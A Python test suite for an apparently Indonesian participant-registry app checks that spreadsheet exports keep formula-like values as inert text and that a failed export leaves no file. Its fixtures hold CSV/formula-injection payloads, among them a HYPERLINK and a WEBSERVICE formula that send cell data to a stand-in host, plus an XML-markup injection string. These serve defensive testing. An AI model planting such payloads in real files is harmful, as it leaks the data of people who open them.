"""No stored value is ever a formula in an export, none can stop one, and an export that fails
leaves no file. Read back with openpyxl and, where installed, LibreOffice."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from kudus_desktop.core.enrolment.participants import ParticipantService
from kudus_desktop.core.errors import KudusError
from kudus_desktop.core.office.accounts import AccountService
from kudus_desktop.core.reports.exporting import FORMULA_STARTS, export_bpjs_list, export_problem_report, export_roster
from kudus_desktop.core.rules.validation import collapse
from kudus_desktop.core.storage.sync_rules import has_forbidden
from kudus_desktop.core.village.importing import ImportOptions, ImportService
from tests.factories import make_draft, make_nik

RICH = '<r><t>Jl. Mawar</t></r></is></c><c r="Z1" t="inlineStr"><is><r><t>disisipkan</t></r>'
HOSTILE = {
    "address": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "occupation": '=WEBSERVICE("http://contoh.invalid")',
    "birth_place": "+1+2",
    "dusun": "@SUM(1,2)",
}


@pytest.fixture
def hostile(service: ParticipantService) -> ParticipantService:
    service.create(make_draft(1, **HOSTILE))
    service.create(make_draft(2, address="-3+4"))
    # What the writer's streaming mode would take for its own rich-text markup and copy unescaped.
    service.create(make_draft(3, address=RICH))
    # A value stored before control characters were dropped at input (an older version, a file).
    with service.db.begin() as conn:
        conn.execute(
            text("UPDATE participant SET occupation = 'Buruh\x07 harian\x1b' WHERE nik = :n"), {"n": make_nik(2)}
        )
    return service


def cells(path: Path, sheet: str) -> list[openpyxl.cell.cell.Cell]:
    ws = openpyxl.load_workbook(path)[sheet]
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def test_roster_and_bpjs_list_hold_formulas_only_as_text(tmp_path: Path, hostile: ParticipantService) -> None:
    profile = AccountService(hostile.db).profile()
    roster, bpjs = tmp_path / "roster.xlsx", tmp_path / "bpjs.xlsx"
    export_roster(hostile, profile, roster)
    export_bpjs_list(hostile, bpjs, columns=["nik", "full_name", "birth_place", "address", "occupation"])
    for path, sheet in ((roster, "Daftar Peserta"), (bpjs, "Pendaftaran")):
        found = cells(path, sheet)
        risky = [c for c in found if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
        assert risky, path
        for c in risky:
            assert c.data_type == "s" and c.quotePrefix, (path, c.coordinate, c.value)
        assert not any(c.data_type == "f" for c in found)
        values = [str(c.value) for c in found]
        assert any(v.startswith("-3+4") for v in values) and not any("\x07" in v or "\x1b" in v for v in values)
        assert any(RICH in v for v in values), "markup-like text reads back as typed"
    assert any(HOSTILE["occupation"] == str(c.value) for c in cells(bpjs, "Pendaftaran"))


def test_the_problem_report_holds_formulas_only_as_text(tmp_path: Path, service: ParticipantService) -> None:
    source = tmp_path / "daftar.csv"  # a CSV: text exactly as typed, no formula evaluated on the way in
    source.write_text(
        'NIK,Nama Lengkap,Tgl Lahir,L/P,RT,RW\n=1+1,"=HYPERLINK(""http://contoh.invalid"")",12/05/1980,L,1,1\n',
        encoding="utf-8",
    )
    preview = ImportService(service).preview(source, options=ImportOptions(source_list="DTKS"))
    out = tmp_path / "masalah.xlsx"
    assert export_problem_report(preview, out) >= 1
    found = cells(out, "Masalah Impor")
    assert not any(c.data_type == "f" for c in found)
    assert any(c.value == "=1+1" and c.quotePrefix for c in found)


def test_an_export_that_fails_leaves_no_file(
    tmp_path: Path, hostile: ParticipantService, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "keluar"
    folder.mkdir()

    def broken(*args: object, **kwargs: object) -> object:
        raise ValueError("Invalid isoformat string: '2026-02-30'")  # a date stored by an older version

    monkeypatch.setattr(ParticipantService, "views", broken)
    for export in (
        lambda: export_roster(hostile, AccountService(hostile.db).profile(), folder / "roster.xlsx"),
        lambda: export_bpjs_list(hostile, folder / "bpjs.xlsx"),
    ):
        with pytest.raises(KudusError) as err:
            export()
        assert err.value.code == "export_failed" and "2026-02-30" in str(err.value)
        assert list(folder.iterdir()) == []


@given(st.text())
def test_typed_text_never_keeps_a_character_the_regency_refuses(typed: str) -> None:
    assert not has_forbidden(collapse(typed))


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed; .ci/run installs it"
)
def test_libreoffice_reads_the_formulas_as_the_text_they_are(tmp_path: Path, hostile: ParticipantService) -> None:
    out = tmp_path / "bpjs.xlsx"
    export_bpjs_list(hostile, out, columns=["nik", "birth_place", "address", "occupation"])
    target = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true"
    profile = f"-env:UserInstallation=file://{tmp_path}/lo"
    cmd = ["soffice", "--headless", profile, "--convert-to", target, "--outdir", str(tmp_path), str(out)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    with (tmp_path / "bpjs.csv").open(encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    first = next(r for r in rows if r[0] == make_nik(1))
    assert first[1:] == [HOSTILE["birth_place"], f"{HOSTILE['address']}, RT 001/RW 002, @SUM(1,2)",
                         HOSTILE["occupation"]]  # fmt: skip
    second = next(r for r in rows if r[0] == make_nik(2))
    assert second[2] == "-3+4, RT 001/RW 002, Krajan" and second[3] == "Buruh harian"
